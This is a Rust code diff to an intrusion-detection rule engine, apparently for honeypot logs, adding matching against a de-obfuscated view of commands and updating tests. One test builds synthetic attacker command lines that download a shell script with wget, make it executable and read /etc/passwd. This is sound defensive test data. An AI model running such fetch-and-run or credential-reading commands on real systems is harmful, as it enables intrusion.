@@ -22,6 +22,7 @@ use regex_automata::{Input, MatchKind, PatternID, PatternSet};
 use rustc_hash::FxHashMap;
 use serde_json::{Map, Value};
 
+use super::deobfuscate::deobfuscate;
 use super::py::Fields as _;
 use super::pyre::{Dollar, PyRegex, translate_with};
 use super::rules::{Owner, Rule};
@@ -43,8 +44,27 @@ fn default_field(source_kind: &str) -> Option<&'static str> {
     })
 }
 
+/// Which rules also match the de-obfuscated view of a command (§7.7). DECNET matches the raw
+/// text only, so its pack keeps doing so unless the operator asks otherwise.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
+pub enum CommandView {
+    /// The built-in pack's rules: ours, written for the view.
+    #[default]
+    BuiltinRules,
+    /// Every rule over a command's text (`--normalize-commands`).
+    EveryRule,
+}
+
+/// The field whose text has a de-obfuscated view: a command's text.
+const VIEW_FIELD: (&str, &str) = ("command", "command_text");
+
+/// Evidence naming the view a rule fired on, when the raw text did not match.
+pub const VIEW_EVIDENCE: &str = "deobfuscated_command";
+
 struct KindRule {
     rule: Arc<Rule>,
+    /// Whether a miss on the raw text is asked again of its de-obfuscated view.
+    sees_view: bool,
     /// Index into [`KindPlan::fields`].
     field: usize,
     /// Exact on every text.
@@ -119,7 +139,7 @@ pub struct Fired<'a> {
 }
 
 impl PatternEngine {
-    pub fn new(rules: &[Arc<Rule>]) -> PatternEngine {
+    pub fn new(rules: &[Arc<Rule>], view: CommandView) -> PatternEngine {
         let mut plans: FxHashMap<String, KindPlan> = FxHashMap::default();
         // Per kind, per field: the set members' sources.
         let mut set_sources: HashMap<String, Vec<Vec<String>>> = HashMap::new();
@@ -148,6 +168,8 @@ impl PatternEngine {
                     sets: Vec::new(),
                 });
                 let sources = set_sources.entry(kind.clone()).or_default();
+                let sees_view = (kind.as_str(), field.as_str()) == VIEW_FIELD
+                    && (view == CommandView::EveryRule || rule.is_builtin());
                 let field = match plan.fields.iter().position(|f| *f == field) {
                     Some(i) => i,
                     None => {
@@ -162,6 +184,7 @@ impl PatternEngine {
                 });
                 plan.rules.push(KindRule {
                     rule: Arc::clone(rule),
+                    sees_view,
                     field,
                     regex: regex.clone(),
                     in_set,
@@ -222,10 +245,13 @@ impl PatternEngine {
         let Some(plan) = self.plans.get(source_kind) else {
             return Vec::new();
         };
-        /// Per field: its text, and the set's verdicts once asked.
+        /// Per field: its text, and the set's verdicts once asked; the same for its
+        /// de-obfuscated view (`None` inside when it is the text itself).
         struct Field<'p> {
             text: Option<&'p str>,
             hits: Option<PatternSet>,
+            view: Option<Option<String>>,
+            view_hits: Option<PatternSet>,
         }
         let mut fields: Vec<Field<'_>> = plan
             .fields
@@ -233,6 +259,8 @@ impl PatternEngine {
             .map(|name| Field {
                 text: payload.field(name).and_then(Value::as_str),
                 hits: None,
+                view: None,
+                view_hits: None,
             })
             .collect();
         let mut fired = Vec::new();
@@ -244,29 +272,54 @@ impl PatternEngine {
             if !kr.rule.state.is_active(now) {
                 continue;
             }
-            let hit = match (kr.in_set, &plan.sets[kr.field]) {
-                // Non-ASCII text needs the Unicode forms, and those are searched rule by rule:
-                // a Unicode `\b` makes a set's lazy DFA give up on such text, and its fall-back
-                // is far slower than asking each rule.
-                (Some(index), Some(set)) if haystack.is_ascii() && !haystack.ends_with('\n') => {
-                    field
-                        .hits
-                        .get_or_insert_with(|| set.matches(haystack))
-                        .contains(PatternID::new_unchecked(index))
-                }
-                _ => kr.regex.search(haystack).unwrap_or_else(|_| {
-                    *regex_errors += 1;
-                    false
-                }),
-            };
-            if hit {
+            let set = plan.sets[kr.field].as_ref();
+            if rule_matches(kr, set, haystack, &mut field.hits, regex_errors) {
                 fired.push(Fired {
                     rule: &kr.rule,
                     evidence: engine_evidence(&kr.rule, source_kind, payload),
                 });
+                continue;
+            }
+            if !kr.sees_view {
+                continue;
+            }
+            let Some(view) = field.view.get_or_insert_with(|| deobfuscate(haystack)) else {
+                continue;
+            };
+            if rule_matches(kr, set, view, &mut field.view_hits, regex_errors) {
+                let mut evidence = engine_evidence(&kr.rule, source_kind, payload);
+                evidence.insert(VIEW_EVIDENCE.to_owned(), Value::String(view.clone()));
+                fired.push(Fired {
+                    rule: &kr.rule,
+                    evidence,
+                });
             }
         }
         fired
+    }
+}
+
+/// Whether `kr` matches `text`: through its field's set (whose verdicts on this text are kept
+/// in `hits`) when the set can answer, else through its own regex. `regex_errors` counts
+/// evaluations the backtracking engine gave up on (a miss).
+fn rule_matches(
+    kr: &KindRule,
+    set: Option<&FieldSet>,
+    text: &str,
+    hits: &mut Option<PatternSet>,
+    regex_errors: &mut usize,
+) -> bool {
+    match (kr.in_set, set) {
+        // Non-ASCII text needs the Unicode forms, and those are searched rule by rule: a
+        // Unicode `\b` makes a set's lazy DFA give up on such text, and its fall-back is far
+        // slower than asking each rule.
+        (Some(index), Some(set)) if text.is_ascii() && !text.ends_with('\n') => hits
+            .get_or_insert_with(|| set.matches(text))
+            .contains(PatternID::new_unchecked(index)),
+        _ => kr.regex.search(text).unwrap_or_else(|_| {
+            *regex_errors += 1;
+            false
+        }),
     }
 }
 
@@ -375,7 +428,7 @@ mod tests {
     fn engine_fires_exactly_what_the_faithful_patterns_match() {
         let rules = command_rules(DIALECT_CASES.iter().map(|(pattern, _)| *pattern));
         let references: Vec<_> = DIALECT_CASES.iter().map(|(p, _)| reference(p)).collect();
-        let engine = PatternEngine::new(&rules);
+        let engine = PatternEngine::new(&rules, CommandView::BuiltinRules);
         let mut errors = 0;
         for (_, tokens) in DIALECT_CASES {
             for text in token_strings(tokens, 4) {
@@ -406,7 +459,7 @@ mod tests {
         assert!(decnet.is_dir(), "{} is missing", decnet.display());
         set.add_dir(&decnet);
         assert!(set.problems.is_empty(), "{:?}", set.problems);
-        let engine = PatternEngine::new(&set.rules);
+        let engine = PatternEngine::new(&set.rules, CommandView::BuiltinRules);
         let (mut compared, mut matched) = (0usize, 0usize);
         let mut seed = 0x2545_f491_4f6c_dd1d_u64;
         for (kind, plan) in &engine.plans {
@@ -457,7 +510,7 @@ mod tests {
     fn released_caches_start_afresh_and_answer_the_same() {
         let mut set = RuleSet::default();
         builtin::add_rules(&mut set);
-        let engine = PatternEngine::new(&set.rules);
+        let engine = PatternEngine::new(&set.rules, CommandView::BuiltinRules);
         let fresh = engine.cache_bytes();
         let texts: Vec<String> = (0..3000)
             .map(|i| format!("cd /tmp/{i}; wget http://10.0.{}.{}/x{i}.sh; chmod +x x; uname -a; cat /etc/passwd | grep {i}", i % 7, i % 251))
@@ -478,7 +531,10 @@ mod tests {
     /// as in the `regex` crate.
     #[test]
     fn patterns_folding_into_ascii_are_searched_with_unicode() {
-        let engine = PatternEngine::new(&command_rules([r"(?i)\u212a", "(?i)\u{17f}", r"(?i)x\w"]));
+        let engine = PatternEngine::new(
+            &command_rules([r"(?i)\u212a", "(?i)\u{17f}", r"(?i)x\w"]),
+            CommandView::BuiltinRules,
+        );
         let plan = &engine.plans["command"];
         let in_set: Vec<bool> = plan.rules.iter().map(|kr| kr.in_set.is_some()).collect();
         assert_eq!(in_set, [false, false, true]);
